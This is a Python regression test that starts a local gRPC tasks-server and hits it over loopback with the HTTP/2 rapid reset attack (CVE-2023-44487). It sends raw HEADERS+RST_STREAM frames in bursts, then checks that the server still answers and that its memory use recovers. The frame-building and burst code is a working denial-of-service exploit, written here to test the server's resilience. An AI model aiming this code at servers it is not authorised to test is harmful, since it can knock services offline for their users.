#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a real tasks-server.

--bursts times, one connection sends --pairs HEADERS+RST_STREAM pairs (a POST to a real method,
cancelled at once), speaking raw HTTP/2 over a loopback socket with only the standard library.
After each burst the server must answer a normal call and, unless --no_rss_check
(AddressSanitizer keeps freed memory in its quarantine), its RSS must come back to within
--max_growth_mib of what it was before the first burst, within a few seconds. The peak during a
burst is printed, not judged: gRPC 1.51 cannot bound it (README "Operating").

Also --measure: start the server, print RSS before and after each burst size, exit 0 (for the
README's figures).
"""
import argparse
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_HEADERS, END_STREAM = 0x4, 0x1
CANCEL = 0x8
METHOD = b"/optimum.tasks.v1.TasksManager/GetAllTasks"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value):
    """HPACK literal header field without indexing, new name (RFC 7541 6.2.2); short strings."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(authority):
    # :method POST (static 3), :scheme http (static 6), then literals.
    return (b"\x83\x86" + literal(b":path", METHOD) + literal(b":authority", authority) +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def drain(sock):
    """Reads what the server sends until it closes, so that its writes never block its reads."""
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass


def rapid_reset(port, pairs):
    """Sends `pairs` HEADERS+RST_STREAM pairs on one connection; returns how many were sent."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    reader = threading.Thread(target=drain, args=(sock,), daemon=True)
    reader.start()
    block = request_block(b"127.0.0.1:%d" % port)
    sent = 0
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        while sent < pairs:
            batch = min(1000, pairs - sent)
            sock.sendall(b"".join(
                frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
                frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL))
                for i in range(sent, sent + batch)))
            sent += batch
    except OSError:  # the server closed the connection: the rest is not sent
        pass
    sock.shutdown(socket.SHUT_WR)
    reader.join(timeout=30)
    sock.close()
    return sent


def rss_kib(pid, field="VmRSS"):
    with open("/proc/%d/status" % pid) as status:
        return int(re.search(field + r":\s+(\d+) kB", status.read()).group(1))


def settle_rss(pid, bound_kib, timeout=10.0):
    """RSS once it is within bound_kib, or once it stops falling, or after timeout seconds."""
    deadline, last = time.monotonic() + timeout, rss_kib(pid)
    while last > bound_kib and time.monotonic() < deadline:
        time.sleep(0.25)  # sampling interval of a bounded polling loop
        now = rss_kib(pid)
        last = now
    return last


def start_server(server_bin, log, extra):
    proc = subprocess.Popen([server_bin, "--listen_address", "127.0.0.1:0", "--log_level", "info",
                             "--offline", *extra], stderr=log)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        out = open(log.name).read()
        found = re.search(r"\(port (\d+)\)", out)
        if found:
            return proc, int(found.group(1))
        if proc.poll() is not None:
            sys.exit("tasks-server exited: " + out)
        time.sleep(0.05)
    proc.kill()
    sys.exit("tasks-server did not report its port")


def answers(cli_bin, port):
    result = subprocess.run([cli_bin, "--server", "127.0.0.1:%d" % port, "--deadline", "5",
                             "get-all-tasks"], capture_output=True, text=True, timeout=30)
    return result.returncode == 0


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("server_bin")
    parser.add_argument("cli_bin")
    parser.add_argument("--pairs", type=int, default=10000)
    parser.add_argument("--bursts", type=int, default=3)
    parser.add_argument("--max_growth_mib", type=float, default=24)
    parser.add_argument("--no_rss_check", action="store_true")
    parser.add_argument("--measure", type=int, nargs="*", help="burst sizes to report RSS after")
    parser.add_argument("server_args", nargs="*")
    args = parser.parse_args()
    with tempfile.NamedTemporaryFile("w+", suffix=".log") as log:
        proc, port = start_server(args.server_bin, log, args.server_args)
        try:
            if not answers(args.cli_bin, port):
                sys.exit("server does not answer before the burst")
            before = rss_kib(proc.pid)
            bound = before + args.max_growth_mib * 1024
            if args.measure:
                print("RSS before: %.1f MiB" % (before / 1024))
                for pairs in args.measure:
                    sent = rapid_reset(port, pairs)
                    print("RSS after %d pairs (%d sent): %.1f MiB, peak %.1f MiB" %
                          (pairs, sent, settle_rss(proc.pid, 0, 10) / 1024,
                           rss_kib(proc.pid, "VmHWM") / 1024))
                return
            for burst in range(args.bursts):
                sent = rapid_reset(port, args.pairs)
                after = settle_rss(proc.pid, bound)
                print("burst %d: %d pairs sent, RSS %.1f MiB before, peak %.1f, after %.1f" %
                      (burst + 1, sent, before / 1024, rss_kib(proc.pid, "VmHWM") / 1024,
                       after / 1024))
                if not answers(args.cli_bin, port):
                    sys.exit("FAIL: server does not answer after the burst")
                if not args.no_rss_check and after > bound:
                    sys.exit("FAIL: RSS stays %.1f MiB above what it was before the burst" %
                             ((after - before) / 1024))
            print("PASS")
        finally:
            proc.terminate()
            proc.wait(timeout=30)


if __name__ == "__main__":
    main()
